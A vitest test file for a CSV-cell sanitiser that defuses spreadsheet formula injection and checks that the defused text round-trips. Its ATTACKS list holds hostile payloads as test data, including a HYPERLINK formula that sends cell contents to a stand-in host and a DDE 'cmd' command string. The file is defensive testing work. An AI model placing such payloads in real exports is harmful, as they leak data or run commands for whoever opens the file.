import { expect, test } from 'vitest';
import { csvCell, inertJson, inertText, textOfInert } from './csv-cell.ts';

const ATTACKS = [
	'=HYPERLINK("http://x.example/?"&A1,"open")',
	"=cmd|'/c calc'!A0",
	'@SUM(1+1)',
	'+1+cmd|x',
	'-2+3',
	'\t=1+1',
	'\r=1+1',
	'\n=1+1',
	' =1+1',
	"'=1+1",
	"''=1",
	'＝1+1',
	'-',
	'@'
];

test.each(ATTACKS)('%j is a text to a spreadsheet, and the same text when it is read back', (text) => {
	expect(inertText(text)[0]).toBe("'");
	expect(textOfInert(inertText(text))).toBe(text);
	expect(csvCell(text)).toMatch(/^"?'/);
});

test.each(['-1.5', '+3', '-1e-3', '.5', 'Fist', "it's", "'quoted'", 'a=b', '', '2026-03-09', 'Rest - open'])(
	'%j stays as it is',
	(text) => {
		expect(inertText(text)).toBe(text);
		expect(textOfInert(text)).toBe(text);
	}
);

test('a cell is quoted where a reader of another delimiter would cut it', () => {
	expect(csvCell('a;=1')).toBe('"a;=1"');
	expect(csvCell('say "a", b')).toBe('"say ""a"", b"');
});

test('JSON in a comment begins no cell with a formula, and is the same JSON', () => {
	const value = {
		names: ['a', "=cmd|'/c calc'!A0", '@x', 'b, =1+1', "'-1+1"],
		gap: [-1.5, { lost: -2 }],
		at: '+01:00'
	};
	const text = inertJson(value);
	for (const cell of text.split(/[,;]/))
		expect(cell.replace(/^[\s{["']*/, '')).not.toMatch(/^[=+@]|^-(?!\d)/);
	expect(JSON.parse(text)).toEqual(value);
});
